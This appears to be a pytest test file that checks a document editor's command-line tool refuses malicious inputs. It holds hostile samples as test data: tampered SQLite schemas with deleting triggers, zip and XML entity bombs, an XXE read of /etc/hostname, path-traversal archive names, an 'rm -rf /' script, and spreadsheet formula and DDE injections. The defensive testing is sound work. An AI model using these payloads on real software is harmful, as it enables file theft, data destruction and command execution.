"""Files made to do harm, given to the program as a clerk would: exit code 3 and one sentence, nothing changed, nothing run."""

import hashlib
import io
import os
import shutil
import sqlite3
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from editor.cli.console import Console
from editor.cli.main import run
from editor.document.document import create_document
from editor.domain import edits
from editor.exchange.clipboard import read_html, write_html
from tests.exchange.readers.makers import docx_members, para, zip_bytes
from tests.store.samples import sample
from tests.torture.conftest import ROOT

SECONDS = 60.0
"""The longest a file may take; every one of these takes a moment."""


def state_of(folder: Path) -> dict[str, bytes]:
    files = (file for file in folder.rglob("*") if file.is_file())
    return {str(file.relative_to(folder)): hashlib.sha256(file.read_bytes()).digest() for file in files}


def said(*words: str) -> tuple[int, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run(list(words), Console(out, err))
    return code, err.getvalue()


def refused(folder: Path, *words: str) -> str:
    """The sentence; the folder is as before, byte for byte."""
    before, begun = state_of(folder), time.monotonic()
    code, text = said(*words)
    assert code == 3, text
    assert len(text.splitlines()) == 1
    assert "Traceback" not in text
    assert text.endswith("。\n")
    assert state_of(folder) == before
    assert time.monotonic() - begun < SECONDS
    return text


@pytest.fixture
def document(tmp_path: Path) -> Path:
    path = tmp_path / "收到的 [文件].jixiao"
    create_document(path, sample()).close()
    return path


def spoil(path: Path, *statements: str) -> None:
    connection = sqlite3.connect(path, isolation_level=None)
    for statement in statements:
        connection.execute(statement)
    connection.close()


def numbered(path: Path, at: int, number: int) -> None:
    with path.open("r+b") as file:
        file.seek(at)
        file.write(struct.pack(">I", number))


ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 1000000000) SELECT i FROM n"
SWAP = "PRAGMA writable_schema = ON"
HOSTILE: dict[str, Callable[[Path], None]] = {
    "a view posing as a table, with a billion rows": lambda path: spoil(
        path,
        "PRAGMA foreign_keys = OFF",
        "DROP TABLE waiver",
        f"CREATE VIEW waiver AS SELECT i AS position, '' AS finding FROM ({ENDLESS})",
    ),
    "a view beside the tables": lambda path: spoil(path, f"CREATE VIEW project_names AS {ENDLESS}"),
    "a trigger that deletes": lambda path: spoil(
        path, "CREATE TRIGGER t AFTER INSERT ON history BEGIN DELETE FROM project; END"
    ),
    "a trigger posing as an index": lambda path: spoil(
        path,
        "DROP INDEX indicator_project",
        "CREATE TRIGGER indicator_project AFTER UPDATE ON meta BEGIN DELETE FROM meta; END",
    ),
    "a column worked out by a heavy expression": lambda path: spoil(
        path, "ALTER TABLE unit ADD COLUMN heavy TEXT AS (hex(zeroblob(100000000))) VIRTUAL"
    ),
    "an index over an expression": lambda path: spoil(path, "CREATE INDEX evil ON unit (upper(name))"),
    "a virtual table": lambda path: spoil(path, "CREATE VIRTUAL TABLE evil USING fts5 (a)"),
    "a default that runs": lambda path: spoil(
        path,
        SWAP,
        "UPDATE sqlite_schema SET sql = replace(sql, 'text TEXT NOT NULL', 'text TEXT NOT NULL DEFAULT (load_extension(''x''))')"
        " WHERE name = 'paragraph'",
    ),
    "a text of fifty million characters": lambda path: spoil(
        path,
        "PRAGMA ignore_check_constraints = ON",
        "UPDATE meta SET value = hex(zeroblob(25000000)) WHERE key = 'form'",
    ),
    "a name of a step longer than a book": lambda path: spoil(
        path, "INSERT INTO history VALUES (1, hex(zeroblob(3000000)), '', '', '', '')"
    ),
    "a hundred thousand projects": lambda path: spoil(
        path,
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 100000)"
        " INSERT INTO project SELECT 1000 + i, 2 + i, '', 0 FROM n",
    ),
    "another program's file": lambda path: numbered(path, 68, 0x42424242),
    "no program's file": lambda path: numbered(path, 68, 0),
    "a file of a program to come": lambda path: numbered(path, 60, 99_000),
    "a header that tells of more pages than there are": lambda path: numbered(path, 28, 1_000_000),
    "an unknown form": lambda path: spoil(path, "UPDATE meta SET value = '../../etc/passwd' WHERE key = 'form'"),
}


@pytest.mark.parametrize("harm", HOSTILE)
def test_a_document_made_to_do_harm(document: Path, harm: str) -> None:
    HOSTILE[harm](document)
    refused(document.parent, "show", str(document))
    refused(document.parent, "export", str(document), "-o", str(document.with_suffix(".pdf")))


def padded(size: int, fill: bytes = b" ") -> bytes:
    return fill * size


def many(count: int) -> bytes:
    return zip_bytes({f"word/{n}.xml": "<a/>" for n in range(count)})


def with_entities() -> bytes:
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    body = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "啊">{lines}]><x>&e11;</x>'
    return zip_bytes({**docx_members(para("一")), "word/document.xml": body})


def with_outside_entity() -> bytes:
    body = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>'
    return zip_bytes({**docx_members(para("一")), "word/document.xml": body})


def named(*names: str) -> bytes:
    return zip_bytes({**docx_members(para("一")), **dict.fromkeys(names, "x")})


def nested(depth: int) -> bytes:
    return zip_bytes(docx_members("<w:sdt><w:sdtContent>" * depth + para("一") + "</w:sdtContent></w:sdt>" * depth))


def lying() -> bytes:
    """A member whose header says ten bytes and that is a hundred million."""
    data = bytearray(zip_bytes({**docx_members(para("一")), "word/media/x.bin": padded(100_000_000, b"\0")}))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a zip bomb": ("弹.docx", lambda: named() and zip_bytes({**docx_members(para("一")), "x.bin": padded(70_000_000)})),
    "a zip bomb of spreadsheets": ("弹.xlsx", lambda: zip_bytes({"xl/workbook.xml": padded(80_000_000)})),
    "a zip bomb that lies": ("弹.docx", lying),
    "too many members": ("多.docx", lambda: many(3_000)),
    "an entity bomb": ("实体.docx", with_entities),
    "an entity from outside": ("外面.docx", with_outside_entity),
    "a name that leads upwards": ("上.docx", lambda: named("../../../../tmp/逃出去.txt")),
    "a name from the root": ("根.docx", lambda: named("/etc/cron.d/evil")),
    "a name of another system": ("反.docx", lambda: named("..\\..\\Windows\\evil.dll", "C:\\evil.dll")),
    "elements a hundred thousand deep": ("深.docx", lambda: nested(100_000)),
    "half a file": ("半.docx", lambda: named()[:700]),
    "a PDF of nothing but its marks": ("空.pdf", lambda: b"%PDF-1.7\n" + padded(3000) + b"\n%%EOF\n"),
    "a PDF that refers to itself": (
        "环.pdf",
        lambda: (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]"
            b"/Count 99999999/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n"
        ),
    ),
    "JSON a hundred thousand deep": ("深.json", lambda: b"[" * 100_000),
    "JSON with a number of a million digits": ("数.json", lambda: b'{"year": ' + b"9" * 1_000_000 + b"}"),
    "a program": ("程序.docx", lambda: b"MZ\x90\0" + bytes(range(256)) * 20),
    "a script": ("脚本.txt", lambda: b"\0#!/bin/sh\nrm -rf /\n"),
}


@pytest.mark.parametrize("harm", BOMBS)
def test_a_source_made_to_do_harm(tmp_path: Path, harm: str) -> None:
    name, make = BOMBS[harm]
    source, target = tmp_path / name, tmp_path / "编成.jixiao"
    source.write_bytes(make())
    refused(tmp_path, "import", str(source), "-o", str(target))
    assert not target.exists()
    assert not (tmp_path.parent / "逃出去.txt").exists()


def test_the_program_itself_ends_with_three_and_no_traceback(tmp_path: Path) -> None:
    """The same through a process of its own, which sees what no call in here can: stderr, and the worker's too."""
    source = tmp_path / "环.pdf"
    source.write_bytes(BOMBS["a PDF that refers to itself"][1]())
    target = str(tmp_path / "编成.jixiao")
    words = [sys.executable, "-m", "editor.cli.main", "import", str(source), "-o", target]
    done = subprocess.run(
        words, cwd=ROOT, capture_output=True, text=True, encoding="utf-8", timeout=SECONDS, check=False
    )
    assert done.returncode == 3
    assert len(done.stderr.splitlines()) == 1
    assert done.stderr.endswith("。\n")


def test_an_office_file_with_a_template_from_the_network_is_only_read(tmp_path: Path) -> None:
    """A reference to elsewhere is neither followed nor an obstacle."""
    away = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" TargetMode="External" Target="http://203.0.113.9/evil.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    source = tmp_path / "模板.docx"
    source.write_bytes(zip_bytes({**docx_members(para("第一部分")), "word/_rels/settings.xml.rels": away}))
    code, text = said("import", str(source), "-o", str(tmp_path / "编成.jixiao"))
    assert code == 3
    assert "没有找到绩效目标表" in text


FORMULAS = ("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x")')


def test_a_formula_stays_text_in_excel(document: Path) -> None:
    """In the cells, and not as a formula in the XML either; no link, no external connection, no macro."""
    with create_document(document, sample(), overwrite=True) as opened:
        for row, text in zip((2, 3, 5), FORMULAS, strict=False):
            project = 1 if row < 5 else 4
            opened.apply("改", lambda v, p=project, r=row, t=text: edits.set_cells(v, p, [(r, "level3", t)]))  # type: ignore[misc]
        opened.apply("改", lambda v: edits.set_field(v, 4, "purpose", FORMULAS[3]))
        opened.apply("改", lambda v: edits.set_field(v, 4, "name", FORMULAS[4]))
    target = document.with_suffix(".xlsx")
    assert said("export", str(document), "-o", str(target))[0] == 0
    cells = [cell for sheet in load_workbook(target) for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    values = {str(cell.value) for cell in cells}
    assert {FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[4]} <= values
    with zipfile.ZipFile(target) as archive:
        names = archive.namelist()
        assert not [name for name in names if "external" in name or "vba" in name or "connections" in name]
        for name in names:
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
            assert b'TargetMode="External"' not in archive.read(name)


def test_a_formula_stays_text_on_the_clipboard() -> None:
    html = write_html([list(FORMULAS)])
    assert 'mso-number-format:"\\@"' in html
    assert read_html(html) == (FORMULAS,)


def test_a_formula_is_no_field_in_word(document: Path) -> None:
    with create_document(document, sample(), overwrite=True) as opened:
        opened.apply("改", lambda v: edits.set_field(v, 4, "purpose", FORMULAS[0] + "DDEAUTO c:\\calc"))
    target = document.with_suffix(".docx")
    assert said("export", str(document), "-o", str(target))[0] == 0
    with zipfile.ZipFile(target) as archive:
        body = archive.read("word/document.xml").decode()
    instructions = body.split("<w:instrText")[1:]
    assert "DDEAUTO" in body
    assert not [text for text in instructions if "DDEAUTO" in text.split("</w:instrText>")[0]]


@pytest.mark.skipif(os.name == "nt", reason="no such links")
def test_a_document_that_is_a_pipe_or_a_loop(tmp_path: Path) -> None:
    pipe, loop = tmp_path / "管道.jixiao", tmp_path / "环.jixiao"
    os.mkfifo(pipe)
    loop.symlink_to(loop)
    for path in (pipe, loop):
        code, text = said("show", str(path))
        assert code == 3
        assert len(text.splitlines()) == 1


def test_nothing_is_left_in_the_folder_of_temporary_files(document: Path, tmp_path: Path) -> None:
    """Opening what a crash left works on a copy, which goes again."""
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    journal = document.with_name(document.name + "-journal")
    journal.write_bytes(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + bytes(504))
    words = [sys.executable, "-m", "editor.cli.main", "show", str(document)]
    environment = {**os.environ, "TMPDIR": str(scratch)}
    done = subprocess.run(words, cwd=ROOT, capture_output=True, env=environment, timeout=SECONDS, check=False)
    assert done.returncode in (0, 3)
    assert list(scratch.iterdir()) == []
    shutil.rmtree(scratch)
